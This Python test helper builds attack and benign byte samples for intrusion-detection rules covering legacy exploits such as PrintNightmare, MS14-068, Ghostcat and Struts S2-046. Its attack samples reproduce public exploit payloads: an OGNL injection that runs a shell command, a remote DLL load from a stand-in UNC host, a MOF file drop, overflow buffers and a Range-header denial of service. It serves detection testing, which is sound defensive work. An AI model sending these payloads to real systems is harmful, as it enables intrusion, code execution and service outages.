"""Builders of the binary samples of the legacy-estate rules (issue 10 point 6): MS09-050, MS05-039,
MS07-029, MS10-061, PrintNightmare, MS14-068 (Kerberos), MS14-066 (TLS), IIS FTP, BIND, MC-SQLR,
AJP, S2-046 and MS03-007.

Each builder follows the published structure (MS-CIFS, MS-RPRN, MS-PNPR, MS-DNSP, C706 NDR,
RFC 4120 DER, RFC 5246, RFC 959, RFC 1035, MC-SQLR, the AJP13 protocol reference) or the public
exploit whose bytes it reproduces (named in each function), so a sample is a well-formed
message with exactly the anomaly the rule looks for; the benign look-alikes differ in that one
place. `python -m tests.rules.legacy_builders` prints every sample as hex (what the YAML files
hold); with a directory argument it also writes the pcap samples (tests/data/rules/).
"""

from __future__ import annotations

import struct
import sys

from tests.rules import network_builders as nb

SPOOLSS = "12345678-1234-abcd-ef00-0123456789ab"  # MS-RPRN (\pipe\spoolss)
PNP = "8d9f4e40-a03d-11ce-8f69-08003e30051b"  # MS-PNPR umpnpmgr (\pipe\ntsvcs, \pipe\browser)
DNSSERVER = "50abc2a4-574d-40b3-9d66-ee4fd5fba076"  # MS-DNSP (\pipe\DNSSERVER, dynamic TCP)


# ------------------------------------------------------------------ SMB negotiate (MS09-050)


def smb1_negotiate(dialects: list[str], pid_high: int) -> bytes:
    """SMB_COM_NEGOTIATE request ([MS-CIFS] 2.2.4.52.1) with the given PIDHigh header field,
    laid out as Laurent Gaffie's MS09-050 proof of concept (flags 0x18, flags2 0xc853)."""
    header = struct.pack(
        "<4sBIBHH8sHHHHH", b"\xffSMB", 0x72, 0, 0x18, 0xC853, pid_high, b"\0" * 8, 0,
        0xFFFF, 0xFEFF, 0, 0,
    )  # fmt: skip
    data = b"".join(b"\x02" + d.encode("ascii") + b"\0" for d in dialects)
    return nb.nbss(header + b"\0" + struct.pack("<H", len(data)) + data)


POC_DIALECTS = [
    "PC NETWORK PROGRAM 1.0",
    "LANMAN1.0",
    "Windows for Workgroups 3.1a",
    "LM1.2X002",
    "LANMAN2.1",
    "NT LM 0.12",
    "SMB 2.002",
]


# ------------------------------------------------------------------ NDR helpers (C706 ch. 14)


def _pad4(data: bytes) -> bytes:
    return data + b"\0" * (-len(data) % 4)


def ndr_string(text: bytes) -> bytes:
    """A conformant varying char string (max count, offset, actual count, bytes with NUL)."""
    raw = text + b"\0"
    return _pad4(struct.pack("<III", len(raw), 0, len(raw)) + raw)


def ndr_wstring_body(text: str) -> bytes:
    """The deferred part of a [string] wchar_t*: counts and UTF-16LE with NUL, padded to 4."""
    return nb.ndr_wstring(text, pointer=False)


def _pipe_call(iface: str, version: int, opnum: int, stub: bytes, fid: int = 0x4005) -> bytes:
    """BIND then REQUEST written to a named pipe with SMB1 WriteAndX (as smbclient/impacket)."""
    return nb.write_andx(fid, nb.rpc_bind(iface, version), mid=0x41) + nb.write_andx(
        fid, nb.rpc_request(opnum, stub), mid=0x42
    )


# ------------------------------------------------------------------ MS05-039 (umpnpmgr)


def pnp_query_res_conf_list(legacy_data: bytes) -> bytes:
    """PNP_QueryResConfList (opnum 0x36) as Metasploit's ms05_039_pnp builds it: DeviceID
    "a\\b\\c", ResourceID 0xffff (ResType_ClassSpecific), a CS_DES whose CSD_LegacyData is
    `legacy_data`, ResourceLen, OutputLen 4, Flags 0 ([MS-PNPR] 3.1.4.27 is the opnum)."""
    cs_des = struct.pack("<IIII", 0, 0, len(legacy_data), 0) + b"\x42" * 16 + legacy_data
    return (
        ndr_wstring_body("a\\b\\c")
        + struct.pack("<I", 0xFFFF)
        + _pad4(struct.pack("<I", len(cs_des)) + cs_des)
        + struct.pack("<III", len(cs_des), 4, 0)
    )


# ------------------------------------------------------------------ MS07-029 (DNS server RPC)


def dnssrv_query(zone: bytes, operation: bytes) -> bytes:
    """R_DnssrvQuery (opnum 1, [MS-DNSP] 3.1.4.2) as Metasploit's ms07_029_msdns_zonename:
    [unique] server name, [unique] zone (ASCII), [unique] operation (ASCII)."""
    return (
        struct.pack("<I", 0x00020000)
        + ndr_wstring_body("X")
        + struct.pack("<I", 0x00020004)
        + ndr_string(zone)
        + struct.pack("<I", 0x00020008)
        + ndr_string(operation)
    )


def octal_escaped(data: bytes) -> bytes:
    """Every byte as a backslash and its octal value, as the MS07-029 exploits spell the zone."""
    return b"".join(b"\\" + oct(c)[2:].encode() for c in data)


# ------------------------------------------------------------------ MS10-061 / PrintNightmare


HANDLE = b"\0\0\0\0" + bytes(range(1, 17))


def start_doc_printer(output_file: str | None) -> bytes:
    """RpcStartDocPrinter (opnum 17, [MS-RPRN] 3.1.4.9.1) as Metasploit's ms10_061_spoolss:
    handle, DOC_INFO_CONTAINER level 1 (level, union switch, pointer), DOC_INFO_1 pointers
    (pDocName, pOutputFile, pDatatype = NULL) and the deferred strings."""
    doc = ndr_wstring_body("report")
    out = ndr_wstring_body(output_file) if output_file is not None else b""
    return (
        HANDLE
        + struct.pack("<III", 1, 1, 0x00020000)
        + struct.pack("<III", 0x00020004, 0x00020008 if output_file is not None else 0, 0)
        + doc
        + out
    )


def add_printer_driver_ex(paths: tuple[str, str, str], flags: int) -> bytes:
    """RpcAddPrinterDriverEx (opnum 89, [MS-RPRN] 3.1.4.4.8) with a DRIVER_INFO_2 (cVersion 3,
    "1234", "Windows x64", driver path, data file, config file), as cube0x0's CVE-2021-1675 PoC
    (impacket hRpcAddPrinterDriverEx) sends it, and dwFileCopyFlags last."""
    driver, data, config = paths
    strings = [("1234"), ("Windows x64"), driver, data, config]
    info = struct.pack("<I", 3) + b"".join(
        struct.pack("<I", 0x00020004 + 4 * i) for i in range(len(strings))
    )
    deferred = b"".join(ndr_wstring_body(s) for s in strings)
    return (
        nb.ndr_wstring("\\\\198.18.1.20")
        + struct.pack("<III", 2, 2, 0x00020000)
        + info
        + deferred
        + struct.pack("<I", flags)
    )


APD_COPY_ALL_FILES = 0x04
APD_COPY_NEW_FILES = 0x08
APD_COPY_FROM_DIRECTORY = 0x10
APD_INSTALL_WARNED_DRIVER = 0x8000
UNIDRV = (
    "C:\\Windows\\System32\\DriverStore\\FileRepository\\"
    "ntprint.inf_amd64_83aa9aebf5dffc96\\Amd64\\UNIDRV.DLL"
)


# ------------------------------------------------------------------ Kerberos (RFC 4120, DER)


def der(tag: int, value: bytes) -> bytes:
    n = len(value)
    if n < 0x80:
        length = bytes([n])
    elif n < 0x100:
        length = b"\x81" + bytes([n])
    else:
        length = b"\x82" + struct.pack(">H", n)
    return bytes([tag]) + length + value


def _int(value: int) -> bytes:
    raw = value.to_bytes((value.bit_length() + 8) // 8 or 1, "big", signed=False)
    return der(0x02, raw)


def _str(value: bytes) -> bytes:
    return der(0x1B, value)  # GeneralString


def as_req(include_pac: bool, realm: bytes = b"CORP.EXAMPLE", user: bytes = b"alice") -> bytes:
    """An AS-REQ (RFC 4120 5.4.1) with PA-ENC-TIMESTAMP and a PA-PAC-REQUEST ([MS-KILE]
    2.2.3, padata type 128) whose include-pac is `include_pac`, as PyKEK's ms14-068.py builds
    its first message (include-pac FALSE: the TGT it gets back carries no PAC)."""
    enc_ts = der(0x30, der(0xA0, _int(23)) + der(0xA2, der(0x04, b"\x5a" * 52)))
    pa_ts = der(0x30, der(0xA1, _int(2)) + der(0xA2, der(0x04, enc_ts)))
    pac_req = der(0x30, der(0xA0, der(0x01, b"\xff" if include_pac else b"\x00")))
    pa_pac = der(0x30, der(0xA1, _int(128)) + der(0xA2, der(0x04, pac_req)))
    cname = der(0x30, der(0xA0, _int(1)) + der(0xA1, der(0x30, _str(user))))
    sname = der(0x30, der(0xA0, _int(2)) + der(0xA1, der(0x30, _str(b"krbtgt") + _str(realm))))
    body = der(
        0x30,
        der(0xA0, der(0x03, b"\x00\x50\x80\x00\x00"))
        + der(0xA1, cname)
        + der(0xA2, _str(realm))
        + der(0xA3, sname)
        + der(0xA5, der(0x18, b"20370913024805Z"))
        + der(0xA7, _int(0x1D3A5F21))
        + der(0xA8, der(0x30, _int(23) + _int(18))),
    )
    req = der(
        0x30,
        der(0xA1, _int(5))
        + der(0xA2, _int(10))
        + der(0xA3, der(0x30, pa_ts + pa_pac))
        + der(0xA4, body),
    )
    return der(0x6A, req)


def krb_tcp(message: bytes) -> bytes:
    """Kerberos over TCP (RFC 4120 7.2.2): a 4-byte big-endian length before each message."""
    return struct.pack(">I", len(message)) + message


# ------------------------------------------------------------------ TLS (RFC 2246 / 5246)


def tls_record(content_type: int, body: bytes, version: int = 0x0301) -> bytes:
    return struct.pack(">BHH", content_type, version, len(body)) + body


def handshake(msg_type: int, body: bytes) -> bytes:
    return bytes([msg_type]) + len(body).to_bytes(3, "big") + body


def client_hello() -> bytes:
    """A TLS 1.0 ClientHello offering ECDHE-ECDSA and RSA suites (what Schannel clients sent)."""
    suites = [0xC00A, 0xC009, 0xC014, 0xC013, 0x0035, 0x002F, 0x000A]
    curves = b"\x00\x0a\x00\x06\x00\x04\x00\x17\x00\x18"  # supported groups: P-256, P-384
    points = b"\x00\x0b\x00\x02\x01\x00"
    ext = curves + points
    body = (
        b"\x03\x01"
        + bytes(range(32))
        + b"\x00"
        + struct.pack(">H", 2 * len(suites))
        + b"".join(struct.pack(">H", s) for s in suites)
        + b"\x01\x00"
        + struct.pack(">H", len(ext))
        + ext
    )
    return tls_record(22, handshake(1, body))


def ecdsa_signature(r_len: int, s_len: int) -> bytes:
    """DER ECDSA-Sig-Value (RFC 3279 2.2.3): SEQUENCE { r INTEGER, s INTEGER }."""
    r = b"\x00" + b"\x8e" * (r_len - 1)
    s = b"\x3c" * s_len
    return der(0x30, der(0x02, r) + der(0x02, s))


def client_flight(signature: bytes) -> bytes:
    """Certificate (one short ECDSA certificate), ClientKeyExchange (an ECDH point) and
    CertificateVerify (2-byte length + `signature`, TLS 1.0 layout) in one record."""
    cert = der(0x30, der(0x30, der(0xA0, _int(2)) + _int(0x1234) + b"\x30\x0a\x06\x08"
               + b"\x2a\x86\x48\xce\x3d\x04\x03\x02") + b"\x30\x0a\x06\x08\x2a\x86\x48\xce"
               + b"\x3d\x04\x03\x02" + der(0x03, b"\x00" + b"\x11" * 70))  # fmt: skip
    certificate = handshake(11, (len(cert) + 3).to_bytes(3, "big") + len(cert).to_bytes(3, "big")
                            + cert)  # fmt: skip
    point = b"\x04" + b"\x07" * 64
    key_exchange = handshake(16, bytes([len(point)]) + point)
    verify = handshake(15, struct.pack(">H", len(signature)) + signature)
    return tls_record(22, certificate + key_exchange + verify)


# ------------------------------------------------------------------ FTP, DNS, MC-SQLR, AJP


def ftp_session(*commands: bytes) -> bytes:
    return b"".join(c + b"\r\n" for c in (b"USER anonymous", b"PASS guest@", *commands))


def bind_tsig_query(tsig_name: str) -> bytes:
    """A query for an A record with one additional TSIG record (RFC 8945 4.2) owned by
    `tsig_name`; the infobyte CVE-2016-2776 proof of concept gives it a name as long as DNS
    allows (LONG_NAME: 255 bytes on the wire)."""
    rdata = nb.dns_name("hmac-md5.sig-alg.reg.int") + struct.pack(">HIHH", 0, 0x5800, 300, 0)
    rdata += struct.pack(">HHH", 0x8F65, 0, 0)
    question = nb.dns_question("www.example.org", 1)
    tsig = nb.dns_rr(nb.dns_name(tsig_name), 250, rdata, rclass=255)
    return nb.dns_message(0x8F65, 0x0000, [question], [], [tsig])


LONG_NAME = ".".join(["A" * 63] * 3 + ["A" * 61])


def ajp_forward(uri: str, attributes: list[tuple[str, str]]) -> bytes:
    """An AJP13 FORWARD_REQUEST (prefix 2) from the web server to Tomcat on 8009, with request
    attributes (code 0x0A, name, value), as the CVE-2020-1938 PoCs build it."""

    def s(text: str) -> bytes:
        raw = text.encode()
        return struct.pack(">H", len(raw)) + raw + b"\0"

    body = b"\x02\x02" + s("HTTP/1.1") + s(uri) + s("198.18.0.10") + b"\xff\xff" + s("tomcat")
    body += struct.pack(">H?", 8009, False) + struct.pack(">H", 1) + b"\xa0\x0b" + s("tomcat")
    for name, value in attributes:
        body += b"\x0a" + s(name) + s(value)
    body += b"\xff"
    return b"\x12\x34" + struct.pack(">H", len(body)) + body


# ------------------------------------------------------------------ HTTP that is too long to type


def s2_046(content_length: int | None = None) -> bytes:
    """The S2-046 proof of concept: OGNL in a multipart part's filename, a NUL then "b"."""
    ognl = (
        "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
        "(#_memberAccess?(#_memberAccess=#dm):((#context.setMemberAccess(#dm)))).(#cmd='id')."
        "(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}"
    )
    part = (
        f'--xYz\r\nContent-Disposition: form-data; name="foo"; filename="{ognl}\0b"\r\n'
        "Content-Type: text/plain\r\n\r\nx\r\n--xYz--\r\n"
    ).encode("latin-1")
    length = len(part) if content_length is None else content_length
    head = (
        "POST /struts2-showcase/fileupload/doUpload.action HTTP/1.1\r\nHost: java.example\r\n"
        f"Content-Type: multipart/form-data; boundary=xYz\r\nContent-Length: {length}\r\n\r\n"
    ).encode()
    return head + part


def webdav_search(uri_length: int, body_length: int = 0) -> bytes:
    body = b'<?xml version="1.0"?><g:searchrequest xmlns:g="DAV:"><g:sql>' + b"x" * body_length
    body += b"</g:sql></g:searchrequest>"
    uri = b"/" + b"A" * (uri_length - 1)
    return (
        b"SEARCH " + uri + b" HTTP/1.1\r\nHost: iis5.example\r\nContent-Type: text/xml\r\n"
        b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body
    )


def apache_killer(ranges: int) -> bytes:
    spec = "bytes=0-," + ",".join(f"5-{i}" for i in range(ranges))
    return (
        f"HEAD / HTTP/1.1\r\nHost: apache.example\r\nRange: {spec}\r\n"
        "Accept-Encoding: gzip\r\nConnection: close\r\n\r\n"
    ).encode()


# ------------------------------------------------------------------ samples


def samples() -> dict[str, bytes]:
    """Every sample, named <rule file stem>.<attack|benign>[.n]."""
    big = b"\x90" * 0x400 + b"\xcc" * 16
    zone_attack = octal_escaped(b"A" * 600)
    warned = APD_COPY_ALL_FILES | APD_COPY_FROM_DIRECTORY | APD_INSTALL_WARNED_DRIVER
    unc_dll = "\\\\198.18.0.10\\share\\nightmare.dll"
    local = "C:\\Windows\\System32\\spool\\drivers\\x64\\3\\"
    return {
        "ms09-050.attack": smb1_negotiate(POC_DIALECTS, 0x2600),
        "ms09-050.benign": smb1_negotiate(POC_DIALECTS, 0),
        "ms09-050.benign.2": smb1_negotiate(["PC NETWORK PROGRAM 1.0", "NT LM 0.12"], 0x0001),
        "ms05-039.attack": _pipe_call(PNP, 1, 0x36, pnp_query_res_conf_list(big)),
        "ms05-039.benign": _pipe_call(PNP, 1, 0x36, pnp_query_res_conf_list(b"\x01" * 12)),
        "ms07-029.attack": _pipe_call(DNSSERVER, 5, 1, dnssrv_query(zone_attack, b"A")),
        "ms07-029.benign": _pipe_call(
            DNSSERVER, 5, 1, dnssrv_query(b"my\\032zone.example", b"ZoneInfo")
        ),
        "ms10-061.attack": _pipe_call(
            SPOOLSS, 1, 17, start_doc_printer("wbem\\mof\\sysnullevnt.mof")
        ),
        "ms10-061.benign": _pipe_call(SPOOLSS, 1, 17, start_doc_printer(None)),
        "printnightmare.attack": _pipe_call(
            SPOOLSS, 1, 89, add_printer_driver_ex((UNIDRV, unc_dll, unc_dll), warned)
        ),
        "printnightmare.attack.2": _pipe_call(
            SPOOLSS,
            1,
            89,
            add_printer_driver_ex((UNIDRV, local + "old\\1\\n.dll", local + "n.dll"), warned),
        ),
        "printnightmare.benign": _pipe_call(
            SPOOLSS,
            1,
            89,
            add_printer_driver_ex(
                (UNIDRV, local + "unidrv.gpd", local + "UNIDRVUI.DLL"), APD_COPY_NEW_FILES
            ),
        ),
        "ms14-068.attack.tcp": krb_tcp(as_req(False)),
        "ms14-068.benign.tcp": krb_tcp(as_req(True)),
        "ms14-068.attack.udp": as_req(False),
        "ms14-068.benign.udp": as_req(True),
        "ms14-066.attack": client_hello() + client_flight(ecdsa_signature(145, 32)),
        "ms14-066.benign": client_hello() + client_flight(ecdsa_signature(33, 32)),
        "ms14-066.benign.rsa": client_hello()
        + client_flight(bytes((i * 37 + 11) & 0xFF for i in range(256))),
        "iis-ftp-nlst.attack": ftp_session(
            b"MKD SXV" + b"A" * 210,
            b"PORT 198,18,0,10,4,1",
            b"NLST SXV" + b"A" * 210 + b"*/../SXV*/",
        ),
        "iis-ftp-nlst.attack.dos": ftp_session(b"LIST -R p*/../"),
        "iis-ftp-nlst.benign": ftp_session(b"CWD ../pub", b"NLST *.txt", b"LIST ../pub/*"),
        "iis-ftp-iac.attack": b"\xff" * 512 + b"\r\n",
        "iis-ftp-iac.benign": ftp_session(b"RETR caf\xff\xffe.txt", b"\xff\xf4\xff\xf2ABOR"),
        "bind-2016-2776.attack": bind_tsig_query(LONG_NAME),
        "bind-2016-2776.benign": bind_tsig_query("transfer-key.example.org"),
        "bind-2016-2776.attack.tcp": nb.dns_tcp(bind_tsig_query(LONG_NAME)),
        "bind-2016-2776.benign.tcp": nb.dns_tcp(bind_tsig_query("transfer-key.example.org")),
        "ghostcat.attack": ajp_forward(
            "/index.txt",
            [
                ("javax.servlet.include.request_uri", "/"),
                ("javax.servlet.include.path_info", "WEB-INF/web.xml"),
                ("javax.servlet.include.servlet_path", "/"),
            ],
        ),
        "ghostcat.benign": ajp_forward("/index.jsp", [("AJP_REMOTE_PORT", "49152")]),
        "s2-046.attack": s2_046(),
        "s2-046-raw.attack": s2_046(content_length=1000000000),
        "apache-killer.attack": apache_killer(150),
    }


def write_pcaps(directory: str) -> None:
    """The samples too large for inline hex (tests/data/rules/)."""
    nb.tcp_pcap(f"{directory}/ms03-007-webdav-search-attack.pcap", webdav_search(40000), b"", 80)
    nb.tcp_pcap(
        f"{directory}/ms03-007-webdav-search-benign.pcap", webdav_search(200, 12000), b"", 80
    )


if __name__ == "__main__":
    if len(sys.argv) > 1:
        write_pcaps(sys.argv[1])
    for name, data in samples().items():
        print(f"{name} {data.hex()}")
